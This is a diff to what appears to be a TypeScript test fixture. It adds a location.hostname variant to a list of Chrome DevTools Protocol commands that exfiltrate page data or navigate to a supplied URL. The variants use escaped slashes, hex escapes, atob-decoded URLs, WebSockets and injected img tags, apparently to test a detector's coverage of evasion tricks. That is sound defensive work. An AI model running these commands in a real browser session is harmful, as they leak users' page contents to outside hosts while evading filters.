@@ -220,6 +220,7 @@ const cdpCode: Record<string, (url: string) => string> = {
   'callFunctionOn, slashes escaped': (url) => JSON.stringify(cdp('Runtime.callFunctionOn', { functionDeclaration: `function () { navigator.sendBeacon('${url.replace(/\//g, '\\/')}', document.body.innerText); }`, objectId: 'o1' })),
   'a hex escape in the scheme': (url) => JSON.stringify(cdp('Runtime.evaluate', { expression: `location.href = '${url.replace(/^h/i, '\\x68')}'` })),
   'base64 under atob': (url) => JSON.stringify(cdp('Runtime.evaluate', { expression: `fetch(atob('${Buffer.from(url).toString('base64')}'))` })),
+  'a host assigned to location': (url) => JSON.stringify(cdp('Runtime.evaluate', { expression: `location.search = '?d=4111'; location.hostname = '${new URL(url).hostname}'` })),
   'a WebSocket from the page': (url) => JSON.stringify(cdp('Runtime.evaluate', { expression: `new WebSocket('${url.replace(/^http/i, 'ws')}')` })),
   'scheme-relative in innerHTML': (url) => JSON.stringify(cdp('Runtime.evaluate', { expression: `document.body.innerHTML = '<img src=${url.replace(/^https?:/i, '')}>'` })),
   'DOM.setOuterHTML, references': (url) => JSON.stringify(cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: `<p>chart</p><img alt=x src="${url.replace(/\//g, '&#x2F;')}">` })),
